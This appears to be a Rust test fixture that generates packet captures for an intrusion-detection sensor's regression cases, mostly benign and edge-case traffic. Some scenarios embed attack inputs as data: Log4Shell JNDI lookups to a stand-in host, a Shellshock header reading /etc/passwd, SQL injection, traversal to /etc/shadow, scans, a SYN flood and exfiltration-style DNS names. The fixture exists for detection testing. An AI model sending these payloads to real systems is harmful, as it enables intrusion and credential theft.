//! Reproducible traffic for the regression cases: each scenario builds the
//! frames of one capture in `pcaps/cases/`. The committed captures are
//! checked byte for byte against these builders, so a capture is never
//! edited by hand; `VIGIL_REGENERATE_PCAPS=1 cargo test -p sensor-pipeline
//! --test cases` rewrites them after a deliberate change.

use std::net::SocketAddr;

use sensor_packet::{
    LinkType,
    synth::{PcapWriter, TcpConversation, TcpSegment, TimedFrame, ethernet, udp_packet},
};

/// The home network's client and web server (inside the default HOME_NET).
const CLIENT: &str = "10.1.0.5";
const SERVER: &str = "10.1.0.80";
/// A server outside the home network (documentation range).
const OUTSIDE: &str = "203.0.113.10";
const START_NS: u64 = 1_700_000_000_000_000_000;

fn sa(ip: &str, port: u16) -> SocketAddr {
    format!("{ip}:{port}").parse().unwrap()
}

/// One HTTP/1.1 exchange: handshake, request, a small response, close.
fn http(out: &mut Vec<TimedFrame>, client_port: u16, server: SocketAddr, request: &str, ts: u64) {
    let mut c = TcpConversation::new(sa(CLIENT, client_port), server, ts);
    c.handshake(out);
    c.send(true, request.as_bytes(), out);
    c.send(
        false,
        b"HTTP/1.1 200 OK\r\nContent-Type: text/plain\r\nContent-Length: 2\r\n\r\nok",
        out,
    );
    c.close(out);
}

fn get(path: &str, extra_headers: &str) -> String {
    format!(
        "GET {path} HTTP/1.1\r\nHost: www.example.com\r\nUser-Agent: Mozilla/5.0 (X11; Linux x86_64)\r\nAccept: */*\r\n{extra_headers}\r\n"
    )
}

/// A bare TCP segment with `flags` (scans, floods).
fn segment(src: SocketAddr, dst: SocketAddr, flags: u8, ts: u64) -> TimedFrame {
    let seg = TcpSegment::new(src, dst).seq(1000).flags(flags);
    (ts, ethernet(&[], &seg.ip_packet()))
}

/// A DNS query for `name` (type A) from the client to the resolver.
fn dns_query(out: &mut Vec<TimedFrame>, id: u16, name: &str, ts: u64) {
    let mut msg = Vec::new();
    msg.extend_from_slice(&id.to_be_bytes());
    msg.extend_from_slice(&[0x01, 0x00, 0, 1, 0, 0, 0, 0, 0, 0]);
    for label in name.split('.') {
        msg.push(label.len() as u8);
        msg.extend_from_slice(label.as_bytes());
    }
    msg.extend_from_slice(&[0, 0, 1, 0, 1]);
    out.push((
        ts,
        ethernet(
            &[],
            &udp_packet(sa(CLIENT, 40000 + id), sa("10.1.0.53", 53), &msg),
        ),
    ));
}

/// A TLS 1.2 ClientHello, with a server_name extension when `sni` is given.
fn client_hello(sni: Option<&str>) -> Vec<u8> {
    let mut ext = Vec::new();
    if let Some(name) = sni {
        let n = name.as_bytes();
        let mut body = Vec::new();
        body.extend_from_slice(&((n.len() + 3) as u16).to_be_bytes());
        body.push(0);
        body.extend_from_slice(&(n.len() as u16).to_be_bytes());
        body.extend_from_slice(n);
        ext.extend_from_slice(&0u16.to_be_bytes());
        ext.extend_from_slice(&(body.len() as u16).to_be_bytes());
        ext.extend_from_slice(&body);
    }
    // supported_groups (x25519, secp256r1) so the hello is realistic.
    ext.extend_from_slice(&[0x00, 0x0a, 0x00, 0x06, 0x00, 0x04, 0x00, 0x1d, 0x00, 0x17]);
    let mut hello = vec![0x03, 0x03];
    hello.extend_from_slice(&[0x42; 32]);
    hello.push(0);
    hello.extend_from_slice(&[0x00, 0x04, 0xc0, 0x2f, 0x00, 0x9c]);
    hello.extend_from_slice(&[0x01, 0x00]);
    hello.extend_from_slice(&(ext.len() as u16).to_be_bytes());
    hello.extend_from_slice(&ext);
    let mut hs = vec![0x01];
    hs.extend_from_slice(&(hello.len() as u32).to_be_bytes()[1..]);
    hs.extend_from_slice(&hello);
    let mut rec = vec![0x16, 0x03, 0x01];
    rec.extend_from_slice(&(hs.len() as u16).to_be_bytes());
    rec.extend_from_slice(&hs);
    rec
}

fn tls(out: &mut Vec<TimedFrame>, client_port: u16, sni: Option<&str>, ts: u64) {
    let mut c = TcpConversation::new(sa(CLIENT, client_port), sa(SERVER, 443), ts);
    c.handshake(out);
    c.send(true, &client_hello(sni), out);
    c.close(out);
}

/// A response with `status` (code and reason) and a short body.
fn response(status: &str, content_type: &str, body: &str) -> String {
    format!(
        "HTTP/1.1 {status}\r\nContent-Type: {content_type}\r\nContent-Length: {}\r\n\r\n{body}",
        body.len()
    )
}

/// One keep-alive connection (optionally VLAN-tagged) carrying each
/// exchange in turn: the request, then its response when one is given.
fn keep_alive(
    out: &mut Vec<TimedFrame>,
    client: SocketAddr,
    server: SocketAddr,
    vlans: &[u16],
    exchanges: &[(&str, Option<&str>)],
    ts: u64,
) {
    let mut c = TcpConversation::new(client, server, ts).vlans(vlans);
    c.handshake(out);
    for (request, resp) in exchanges {
        c.send(true, request.as_bytes(), out);
        if let Some(resp) = resp {
            c.send(false, resp.as_bytes(), out);
        }
    }
    c.close(out);
}

/// One UDP datagram, optionally VLAN-tagged.
fn udp(src: SocketAddr, dst: SocketAddr, vlans: &[u16], payload: &[u8], ts: u64) -> TimedFrame {
    (ts, ethernet(vlans, &udp_packet(src, dst, payload)))
}

/// A DNS query (type A) for `name` from `src` to the resolver.
fn dns_query_from(src: SocketAddr, id: u16, name: &str, ts: u64) -> TimedFrame {
    let mut msg = Vec::new();
    msg.extend_from_slice(&id.to_be_bytes());
    msg.extend_from_slice(&[0x01, 0x00, 0, 1, 0, 0, 0, 0, 0, 0]);
    for label in name.split('.') {
        msg.push(label.len() as u8);
        msg.extend_from_slice(label.as_bytes());
    }
    msg.extend_from_slice(&[0, 0, 1, 0, 1]);
    udp(src, sa("10.1.0.53", 53), &[], &msg, ts)
}

/// An IPv4 UDP datagram with the given TTL (the header checksum redone).
fn udp_with_ttl(src: SocketAddr, dst: SocketAddr, vlans: &[u16], ttl: u8, ts: u64) -> TimedFrame {
    let mut ip = udp_packet(src, dst, b"probe");
    ip[8] = ttl;
    ip[10] = 0;
    ip[11] = 0;
    let mut sum: u32 = 0;
    for pair in ip[..20].chunks(2) {
        sum += u32::from(u16::from_be_bytes([pair[0], pair[1]]));
    }
    while sum > 0xffff {
        sum = (sum & 0xffff) + (sum >> 16);
    }
    ip[10..12].copy_from_slice(&(!(sum as u16)).to_be_bytes());
    (ts, ethernet(vlans, &ip))
}

/// A request delivered out of order and with a retransmission: its three
/// parts arrive as 3, 1, 1 (again), 2, then a small response and the close,
/// all with explicit sequence numbers.
fn out_of_order(out: &mut Vec<TimedFrame>, client_port: u16, request: &str, ts: u64) {
    let mut c = TcpConversation::new(sa(CLIENT, client_port), sa(SERVER, 80), ts);
    c.handshake(out);
    let (cs, ss) = c.seqs();
    let req = request.as_bytes();
    let (a, rest) = req.split_at(req.len() / 3);
    let (b, d) = rest.split_at(rest.len() / 2);
    let at = |n: usize| cs.wrapping_add(n as u32);
    let seg = c.raw_segment(true, at(a.len() + b.len()), ss, 0x18, d);
    out.push(seg);
    let seg = c.raw_segment(true, at(0), ss, 0x18, a);
    out.push(seg);
    let seg = c.raw_segment(false, ss, at(a.len()), 0x10, &[]);
    out.push(seg);
    let seg = c.raw_segment(true, at(0), ss, 0x18, a);
    out.push(seg);
    let seg = c.raw_segment(true, at(a.len()), ss, 0x18, b);
    out.push(seg);
    let cend = at(req.len());
    let seg = c.raw_segment(false, ss, cend, 0x10, &[]);
    out.push(seg);
    let resp = response("200 OK", "text/plain", "ok");
    let seg = c.raw_segment(false, ss, cend, 0x18, resp.as_bytes());
    out.push(seg);
    let send = ss.wrapping_add(resp.len() as u32);
    let seg = c.raw_segment(true, cend, send, 0x10, &[]);
    out.push(seg);
    let seg = c.raw_segment(true, cend, send, 0x11, &[]);
    out.push(seg);
    let seg = c.raw_segment(false, send, cend.wrapping_add(1), 0x11, &[]);
    out.push(seg);
    let seg = c.raw_segment(true, cend.wrapping_add(1), send.wrapping_add(1), 0x10, &[]);
    out.push(seg);
}

/// Every scenario: (capture name, frames).
pub fn all() -> Vec<(&'static str, Vec<TimedFrame>)> {
    let web = sa(SERVER, 80);
    let t = |ms: u64| START_NS + ms * 1_000_000;
    let mut cases: Vec<(&'static str, Vec<TimedFrame>)> = Vec::new();
    let mut one = |name: &'static str, build: &dyn Fn(&mut Vec<TimedFrame>)| {
        let mut frames = Vec::new();
        build(&mut frames);
        cases.push((name, frames));
    };

    one("default-log4shell", &|o| {
        http(
            o,
            41001,
            web,
            &get("/", "X-Api-Version: ${jndi:ldap://198.51.100.7/a}\r\n"),
            t(0),
        );
        http(
            o,
            41002,
            web,
            &get("/", "Referer: ${${lower:j}ndi:dns://x.example/}\r\n"),
            t(100),
        );
        http(
            o,
            41003,
            web,
            &get("/search?q=${jndi:ldap://198.51.100.7/b}", ""),
            t(200),
        );
        http(
            o,
            41004,
            web,
            &get("/search?q=%24%7Bjndi:rmi://x/%7D", ""),
            t(300),
        );
    });
    one("default-shellshock", &|o| {
        http(
            o,
            41011,
            web,
            &get(
                "/cgi-bin/status",
                "User-Agent2: () { :; }; /bin/cat /etc/passwd\r\n",
            ),
            t(0),
        );
    });
    one("default-sqli", &|o| {
        http(
            o,
            41021,
            web,
            &get("/item?id=1%20UNION%20SELECT%20password%20FROM%20users", ""),
            t(0),
        );
        http(
            o,
            41022,
            web,
            &get("/login?user=admin'%20or%20'1'='1", ""),
            t(100),
        );
    });
    one("default-traversal", &|o| {
        http(
            o,
            41031,
            web,
            &get("/static/../../../../etc/passwd", ""),
            t(0),
        );
        http(
            o,
            41032,
            web,
            &get("/download?file=%2e%2e%2f%2e%2e%2fetc%2fshadow", ""),
            t(100),
        );
    });
    one("default-scanner-ua", &|o| {
        let req = "GET /admin HTTP/1.1\r\nHost: www.example.com\r\nUser-Agent: sqlmap/1.7.2#stable (https://sqlmap.org)\r\n\r\n";
        http(o, 41041, web, req, t(0));
        let req = "GET / HTTP/1.1\r\nHost: www.example.com\r\nUser-Agent: Mozilla/5.00 (Nikto/2.1.6) (Evasions:None)\r\n\r\n";
        http(o, 41042, web, req, t(100));
    });
    one("default-basic-auth", &|o| {
        let auth = "Authorization: Basic dXNlcjpwYXNzd29yZA==\r\n";
        http(o, 41051, sa(OUTSIDE, 80), &get("/api", auth), t(0));
        // The same to a server inside the home network must not fire.
        http(o, 41052, web, &get("/api", auth), t(100));
    });
    one("default-methods", &|o| {
        for (i, m) in ["TRACE", "TRACK", "CONNECT"].iter().enumerate() {
            let target = if *m == "CONNECT" {
                "www.example.org:443"
            } else {
                "/"
            };
            let req = format!("{m} {target} HTTP/1.1\r\nHost: www.example.com\r\n\r\n");
            http(o, 41061 + i as u16, web, &req, t(100 * i as u64));
        }
        // OPTIONS is ordinary.
        http(
            o,
            41069,
            web,
            "OPTIONS / HTTP/1.1\r\nHost: www.example.com\r\n\r\n",
            t(400),
        );
    });
    one("default-flag-scans", &|o| {
        let scanner = sa("10.1.0.66", 50000);
        o.push(segment(scanner, sa(SERVER, 22), 0x03, t(0))); // SYN+FIN
        o.push(segment(scanner, sa(SERVER, 23), 0x00, t(1))); // NULL
        o.push(segment(scanner, sa(SERVER, 25), 0x29, t(2))); // FIN+PSH+URG (XMAS)
        o.push(segment(scanner, sa(SERVER, 26), 0x01, t(3))); // FIN alone: none of the three
    });
    one("default-port-scan", &|o| {
        let scanner = sa("10.1.0.66", 50001);
        for port in 1..=30u16 {
            o.push(segment(
                scanner,
                sa(SERVER, port),
                0x02,
                t(port as u64 * 10),
            ));
        }
    });
    one("default-syn-flood", &|o| {
        for i in 0..600u64 {
            let src = sa(&format!("198.51.100.{}", 1 + i % 200), 1024 + i as u16);
            o.push(segment(src, sa(SERVER, 80), 0x02, START_NS + i * 1_000_000));
        }
    });
    one("default-dns", &|o| {
        let long = format!(
            "{}.{}.{}.exfil.example.com",
            "a".repeat(50),
            "b".repeat(50),
            "c".repeat(30)
        );
        dns_query(o, 1, &long, t(0));
        dns_query(o, 2, "x7kq2m9zp4tb8wv1rn6yh3jd5cf0.example.net", t(10));
        dns_query(o, 3, "www.example.com", t(20));
    });
    one("default-tls", &|o| {
        tls(o, 41071, None, t(0));
        tls(o, 41072, Some("www.example.com"), t(100));
    });
    one("default-benign", &|o| {
        http(
            o,
            42001,
            web,
            &get("/index.html", "Cookie: session=abc123\r\n"),
            t(0),
        );
        http(
            o,
            42002,
            web,
            &get(
                "/search?q=vigil+ids&page=2",
                "Referer: http://www.example.com/\r\n",
            ),
            t(100),
        );
        http(
            o,
            42003,
            web,
            "POST /api/items HTTP/1.1\r\nHost: www.example.com\r\nContent-Type: application/json\r\nContent-Length: 13\r\n\r\n{\"id\": \"x1\"}\n",
            t(200),
        );
        tls(o, 42004, Some("www.example.com"), t(300));
        dns_query(o, 10, "www.example.com", t(400));
        dns_query(o, 11, "mail.example.org", t(410));
        // A few connection attempts, far from a scan or a flood.
        for port in [80u16, 443, 8080] {
            o.push(segment(
                sa(CLIENT, 43000 + port),
                sa(SERVER, port),
                0x02,
                t(500 + port as u64),
            ));
        }
    });
    one("http-edge-cases", &|o| {
        let ok = response("200 OK", "text/plain", "ok");
        let ok = ok.as_str();
        // 1. Three pipelined requests in one segment; the marker is in the
        // second one's URI. A near-miss connection pipelines `/pipe-markr`.
        let pipelined = format!(
            "{}{}{}",
            get("/first", ""),
            get("/pipe-marker?x=1", ""),
            get("/third", "")
        );
        http(o, 44001, web, &pipelined, t(0));
        let pipelined = format!("{}{}", get("/first", ""), get("/pipe-markr?x=1", ""));
        http(o, 44002, web, &pipelined, t(50));
        // 2. Requests in 5-byte segments: the marker header, then a
        // near-miss value.
        for (port, value, at) in [(44003u16, "tiny-42", 100u64), (44004, "tiny-43", 150)] {
            let mut c = TcpConversation::new(sa(CLIENT, port), web, t(at));
            c.mss = 5;
            c.handshake(o);
            let req = format!("GET /t HTTP/1.1\r\nHost: a\r\nX-Tiny-Marker: {value}\r\n\r\n");
            c.send(true, req.as_bytes(), o);
            c.mss = 1460;
            c.send(false, ok.as_bytes(), o);
            c.close(o);
        }
        // 3. Out of order with a retransmission (must alert once), and a
        // near-miss delivered the same way.
        out_of_order(o, 44005, &get("/ooo-marker", ""), t(200));
        out_of_order(o, 44006, &get("/ooo-other", ""), t(250));
        // 4. Headers over one MSS: the marker header after a 2 KB cookie;
        // the near-miss carries the marker text inside the cookie value.
        let cookie = format!("Cookie: big={}\r\n", "c".repeat(2048));
        http(
            o,
            44007,
            web,
            &get("/big", &format!("{cookie}X-Late-Marker: late-7\r\n")),
            t(300),
        );
        let inside = format!("Cookie: big={};X-Late-Marker: late-7\r\n", "c".repeat(2048));
        http(o, 44008, web, &get("/big", &inside), t(350));
        // 5. A 404 response fires; a 200 whose body says 404 does not.
        keep_alive(
            o,
            sa(CLIENT, 44009),
            web,
            &[],
            &[
                (
                    &get("/missing", ""),
                    Some(&response("404 Not Found", "text/html", "gone")),
                ),
                (
                    &get("/present", ""),
                    Some(&response("200 OK", "text/html", "404 404")),
                ),
            ],
            t(400),
        );
        // 6. Header names in upper and lower case both match; a value in
        // another case does not.
        keep_alive(
            o,
            sa(CLIENT, 44010),
            web,
            &[],
            &[
                (&get("/case1", "X-CASE-MARKER: yes\r\n"), Some(ok)),
                (&get("/case2", "x-case-marker: yes\r\n"), Some(ok)),
                (&get("/case3", "X-Case-Marker: YES\r\n"), Some(ok)),
            ],
            t(450),
        );
        // 7. A keep-alive connection with three requests, one matching.
        keep_alive(
            o,
            sa(CLIENT, 44011),
            web,
            &[],
            &[
                (&get("/keepalive", ""), Some(ok)),
                (&get("/keepalive-hit", ""), Some(ok)),
                (&get("/keepalive-hit2", ""), Some(ok)),
            ],
            t(500),
        );
    });
    one("ipv6-vlan", &|o| {
        let ok = response("200 OK", "text/plain", "ok");
        let ok = ok.as_str();
        let v6 = |ip: &str, port: u16| -> SocketAddr { format!("[{ip}]:{port}").parse().unwrap() };
        let v6web = v6("fd00:1::80", 80);
        // HTTP over IPv6 from inside fd00:1::/64 fires; the same from
        // fd00:2::5 does not.
        keep_alive(
            o,
            v6("fd00:1::5", 45001),
            v6web,
            &[],
            &[(&get("/v6-marker", ""), Some(ok))],
            t(0),
        );
        keep_alive(
            o,
            v6("fd00:2::5", 45002),
            v6web,
            &[],
            &[(&get("/v6-marker", ""), Some(ok))],
            t(50),
        );
        // IPv6 in a VLAN with a negated address in the group.
        keep_alive(
            o,
            v6("fd00:1::5", 45003),
            v6web,
            &[42],
            &[(&get("/v6-neg", ""), Some(ok))],
            t(100),
        );
        keep_alive(
            o,
            v6("fd00:1::bad", 45004),
            v6web,
            &[42],
            &[(&get("/v6-neg", ""), Some(ok))],
            t(150),
        );
        // IPv4 HTTP in one 802.1Q tag, and a near-miss URI.
        keep_alive(
            o,
            sa(CLIENT, 45005),
            web,
            &[100],
            &[(&get("/vlan1-marker", ""), Some(ok))],
            t(200),
        );
        keep_alive(
            o,
            sa(CLIENT, 45006),
            web,
            &[100],
            &[(&get("/vlan1-markr", ""), Some(ok))],
            t(250),
        );
        // QinQ: two tags; from outside the rule's source network it must
        // not fire.
        keep_alive(
            o,
            sa(CLIENT, 45007),
            web,
            &[200, 300],
            &[(&get("/qinq-marker", ""), Some(ok))],
            t(300),
        );
        keep_alive(
            o,
            sa("10.9.0.5", 45008),
            web,
            &[200, 300],
            &[(&get("/qinq-marker", ""), Some(ok))],
            t(350),
        );
        // ip-level rules: an address-only IPv6 rule, and a TTL rule (in a
        // VLAN), each with a near-miss.
        o.push(udp(
            v6("fd00:3::7", 45009),
            v6("fd00:1::80", 5353),
            &[],
            b"hello",
            t(400),
        ));
        o.push(udp(
            v6("fd00:4::7", 45010),
            v6("fd00:1::80", 5353),
            &[],
            b"hello",
            t(410),
        ));
        o.push(udp_with_ttl(
            sa(CLIENT, 45011),
            sa(SERVER, 33434),
            &[100],
            3,
            t(420),
        ));
        o.push(udp_with_ttl(
            sa(CLIENT, 45012),
            sa(SERVER, 33435),
            &[100],
            6,
            t(430),
        ));
    });
    one("suricata-keywords", &|o| {
        let ok = response("200 OK", "text/plain", "ok");
        let ok = ok.as_str();
        // Raw messages to tcp/9000, one segment each.
        let mut c = TcpConversation::new(sa(CLIENT, 46001), sa(SERVER, 9000), t(0));
        c.handshake(o);
        for msg in [
            "..CMD run",         // offset 2, depth 3: fires
            "...CMD run",        // CMD at offset 3: no
            "USER root",         // root 1 byte after USER: fires
            "USER  xx root",     // root too far: no
            "LOGIN plain",       // LOGIN without "secure": fires
            "LOGIN secure",      // no
            "please SHUTDOWN",   // nocase: fires
            "please shut down",  // no
            "HELLO there BYE",   // startswith/endswith: fires
            " HELLO there BYE",  // not at the start: no
            "HELLO there BYE!",  // not at the end: no
            "TOKEN=DEADBEEF",    // pcre /i: fires
            "token=deadbeefx",   // no
            "LEN12345",          // 5 bytes after LEN: fires
            "LEN1",              // 1 byte after: no
            "data END",          // nothing after END: fires
            "END of data",       // no
            "PING",              // dsize 4: fires
            "PING!!",            // no
            "FLOWCHK",           // established, to the server: fires
            "FPAT needle-fast",  // fast_pattern: fires
            "needle-fast alone", // no
            "SILENT",            // noalert: never
            "DANGER",            // the alert alone
        ] {
            c.send(true, msg.as_bytes(), o);
        }
        // From the server: to_client, must not fire the flow rule.
        c.send(false, b"FLOWCHK", o);
        c.close(o);
        // A pass match silences the alert on its packet and passes the rest
        // of the TCP flow: the later DANGER segment does not alert either.
        let mut c = TcpConversation::new(sa(CLIENT, 46002), sa(SERVER, 9000), t(100));
        c.handshake(o);
        c.send(true, b"ALLOWLIST DANGER", o);
        c.send(true, b"DANGER", o);
        c.close(o);
        // A lone PSH/ACK with no handshake (midstream pickup off): the flow
        // is not established, so the flow rule does not fire.
        let lone = TcpSegment::new(sa(CLIENT, 46003), sa(SERVER, 9000))
            .seq(5000)
            .ack(9000)
            .flags(0x18)
            .payload(b"FLOWCHK");
        o.push((t(150), ethernet(&[], &lone.ip_packet())));
        // flags:S on tcp/9001: SYN alone fires; SYN+ECE+CWR does not.
        o.push(segment(sa(CLIENT, 46004), sa(SERVER, 9001), 0x02, t(160)));
        o.push(segment(sa(CLIENT, 46005), sa(SERVER, 9001), 0xc2, t(161)));
        // HTTP buffers on one keep-alive connection.
        let post = |ct: &str| {
            format!(
                "POST /upload HTTP/1.1\r\nHost: www.example.com\r\nContent-Type: {ct}\r\nContent-Length: 2\r\n\r\nhi"
            )
        };
        let long = format!("/long?q={}", "a".repeat(120));
        let notlong = format!("/long?q={}", "a".repeat(60));
        let ua = |ua: &str| {
            format!("GET /ua HTTP/1.1\r\nHost: www.example.com\r\nUser-Agent: {ua}\r\n\r\n")
        };
        let host = |h: &str| format!("GET /h HTTP/1.1\r\nHost: {h}\r\n\r\n");
        let http1 = [
            "PROPFIND /dav HTTP/1.1\r\nHost: www.example.com\r\n\r\n".to_string(),
            get("/PROPFIND", ""),
            get("/admin/./pan%65l", ""),
            get("/admin/panel", ""),
            get("/admin/pane1", ""),
            host("INTRANET.Example:8080"),
            host("intranet.example.org"),
            ua("EvilBot/1.0"),
            ua("Mozilla/5.0 EvilBot/1.0"),
            get("/c", "Cookie: session=x; admin=1\r\n"),
            get("/c?admin=1", "Cookie: session=x\r\n"),
            get("/x", "X-Forwarded-For: 127.0.0.1\r\n"),
            get("/x", "X-Forwarded-For: 10.0.0.1\r\n"),
            get("/d", "X-Debug: 1\r\n"),
            get("/d", "X-Debugger: 1\r\n"),
        ];
        let http2 = [
            post("application/x-sh"),
            post("application/x-shockwave-flash"),
            get(&long, ""),
            get(&notlong, ""),
            get("/bsz", ""),
            get("/bsz1", ""),
            get("/x/cmd.php?c=id", ""),
            get("/x/index.php", "Referer: http://a/x/cmd.php?c=id\r\n"),
        ];
        // No response rule looks at this connection: requests only.
        let ex1: Vec<(&str, Option<&str>)> = http1.iter().map(|r| (r.as_str(), None)).collect();
        keep_alive(o, sa(CLIENT, 46010), web, &[], &ex1, t(200));
        let mut ex2: Vec<(&str, Option<&str>)> =
            http2.iter().map(|r| (r.as_str(), Some(ok))).collect();
        let unavailable = response("503 Service Unavailable", "text/plain", "busy");
        let says503 = response("200 OK", "text/plain", "503");
        ex2.push((
            "GET /busy HTTP/1.1\r\nHost: www.example.com\r\n\r\n",
            Some(&unavailable),
        ));
        ex2.push((
            "GET /fine HTTP/1.1\r\nHost: www.example.com\r\n\r\n",
            Some(&says503),
        ));
        keep_alive(o, sa(CLIENT, 46011), web, &[], &ex2, t(300));
        // TLS SNI: exact name fires, a longer one does not.
        tls(o, 46020, Some("bad.example.com"), t(400));
        tls(o, 46021, Some("bad.example.com.cdn.example.net"), t(420));
        // DNS.
        o.push(dns_query_from(
            sa(CLIENT, 46030),
            30,
            "a1.EXFIL.example.net",
            t(440),
        ));
        o.push(dns_query_from(
            sa(CLIENT, 46031),
            31,
            "exfi1.example.net",
            t(441),
        ));
        // Rates: seven RATE datagrams from one host, two from another.
        for i in 0..7u64 {
            o.push(udp(
                sa(CLIENT, 46040),
                sa(SERVER, 9999),
                &[],
                b"RATE",
                t(500 + i * 10),
            ));
        }
        for i in 0..2u64 {
            o.push(udp(
                sa("10.1.0.6", 46041),
                sa(SERVER, 9999),
                &[],
                b"RATE",
                t(600 + i * 10),
            ));
        }
    });
    one("native-keywords", &|o| {
        let ok = response("200 OK", "text/plain", "ok");
        let ok = ok.as_str();
        let req =
            |m: &str, path: &str| format!("{m} {path} HTTP/1.1\r\nHost: www.example.com\r\n\r\n");
        let ua = |ua: &str| {
            format!("GET /ua HTTP/1.1\r\nHost: www.example.com\r\nUser-Agent: {ua}\r\n\r\n")
        };
        let http1 = [
            req("PUT", "/private/a"),   // and/or/not: fires
            req("DELETE", "/public/a"), // under /public/: no
            req("GET", "/private/a"),   // method: no
            ua("curl/8.0"),             // in [...]: fires
            ua("curl/8.0.1"),           // no
            "GET /v HTTP/1.1\r\nHost: v-host.example\r\nX-A: v-1\r\n\r\n".to_string(), // all(): fires
            "GET /v HTTP/1.1\r\nHost: v-host.example\r\nX-A: w-1\r\n\r\n".to_string(), // no
            get("/a", "X-Note: has evil-any inside\r\n"), // any(): fires
            get("/a", "X-Note: has evil-an-y inside\r\n"), // no
            get("/e", "X-Exists-Marker: 1\r\n"),          // exists: fires
            get("/e", "X-Exists-Markers: 1\r\n"),         // no
            req("GET", "/EXACT"),                         // equals nocase: fires
            req("GET", "/exact/"),                        // no
            ua("SCANBOT v2"),                             // matches /i: fires
            ua("xscanbot v2"),                            // no
        ];
        let ex1: Vec<(&str, Option<&str>)> = http1.iter().map(|r| (r.as_str(), Some(ok))).collect();
        keep_alive(o, sa(CLIENT, 47001), web, &[], &ex1, t(0));
        // Numbers in a list with a range: 8092 fires, 8096 does not.
        keep_alive(
            o,
            sa(CLIENT, 47002),
            sa(SERVER, 8092),
            &[],
            &[(&get("/n", ""), Some(ok))],
            t(100),
        );
        keep_alive(
            o,
            sa(CLIENT, 47003),
            sa(SERVER, 8096),
            &[],
            &[(&get("/n", ""), Some(ok))],
            t(150),
        );
        // tcp.flags to tcp/9100.
        o.push(segment(sa(CLIENT, 47010), sa(SERVER, 9100), 0x02, t(200))); // == [syn]
        o.push(segment(sa(CLIENT, 47011), sa(SERVER, 9100), 0x42, t(201))); // SYN+ECE: no
        o.push(segment(sa(CLIENT, 47012), sa(SERVER, 9101), 0x11, t(202))); // has [fin, ack]
        o.push(segment(sa(CLIENT, 47013), sa(SERVER, 9101), 0x19, t(203))); // has [fin, ack]
        o.push(segment(sa(CLIENT, 47014), sa(SERVER, 9101), 0x01, t(204))); // FIN alone: no
        // ip.src in $SCANNERS.
        o.push(segment(
            sa("10.1.0.65", 47020),
            sa(SERVER, 9200),
            0x02,
            t(210),
        ));
        o.push(segment(
            sa("10.1.0.66", 47021),
            sa(SERVER, 9200),
            0x02,
            t(211),
        ));
        // payload.size > 100: 101 bytes fires, 100 does not.
        o.push(udp(
            sa(CLIENT, 47030),
            sa(SERVER, 9300),
            &[],
            &[b'p'; 101],
            t(220),
        ));
        o.push(udp(
            sa(CLIENT, 47031),
            sa(SERVER, 9300),
            &[],
            &[b'p'; 100],
            t(221),
        ));
        // threshold count > 3 by ip.src: five from one host (one alert),
        // three from another (none).
        for i in 0..5u64 {
            o.push(udp(
                sa(CLIENT, 47040),
                sa(SERVER, 9400),
                &[],
                b"tick",
                t(300 + i),
            ));
        }
        for i in 0..3u64 {
            o.push(udp(
                sa("10.1.0.6", 47041),
                sa(SERVER, 9400),
                &[],
                b"tick",
                t(310 + i),
            ));
        }
        // threshold distinct udp.dst_port > 3 by ip.src: five ports from
        // 10.1.0.7 (one alert), one port five times from 10.1.0.8 (none).
        for i in 0..5u16 {
            o.push(udp(
                sa("10.1.0.7", 47050),
                sa(SERVER, 9501 + i),
                &[],
                b"x",
                t(320 + u64::from(i)),
            ));
        }
        for i in 0..5u64 {
            o.push(udp(
                sa("10.1.0.8", 47051),
                sa(SERVER, 9501),
                &[],
                b"x",
                t(330 + i),
            ));
        }
        // noalert, pass.
        o.push(udp(
            sa(CLIENT, 47060),
            sa(SERVER, 9600),
            &[],
            b"SILENT",
            t(340),
        ));
        o.push(udp(
            sa(CLIENT, 47061),
            sa(SERVER, 9600),
            &[],
            b"TRUSTED ALERTME",
            t(341),
        ));
        o.push(udp(
            sa(CLIENT, 47062),
            sa(SERVER, 9600),
            &[],
            b"ALERTME",
            t(342),
        ));
        // Pass on a TCP flow passes the rest of it: ALERTME after TRUSTED
        // on one connection is silent, ALERTME on another alerts.
        let mut c = TcpConversation::new(sa(CLIENT, 47063), sa(SERVER, 9700), t(350));
        c.handshake(o);
        c.send(true, b"TRUSTED", o);
        c.send(true, b"ALERTME", o);
        c.close(o);
        let mut c = TcpConversation::new(sa(CLIENT, 47064), sa(SERVER, 9700), t(360));
        c.handshake(o);
        c.send(true, b"ALERTME", o);
        c.close(o);
    });
    cases
}

/// The pcap bytes of `frames`.
pub fn pcap(frames: &[TimedFrame]) -> Vec<u8> {
    let mut w = PcapWriter::new(Vec::new(), LinkType::Ethernet).unwrap();
    for (ts, frame) in frames {
        w.write(*ts, frame).unwrap();
    }
    w.into_inner().unwrap()
}
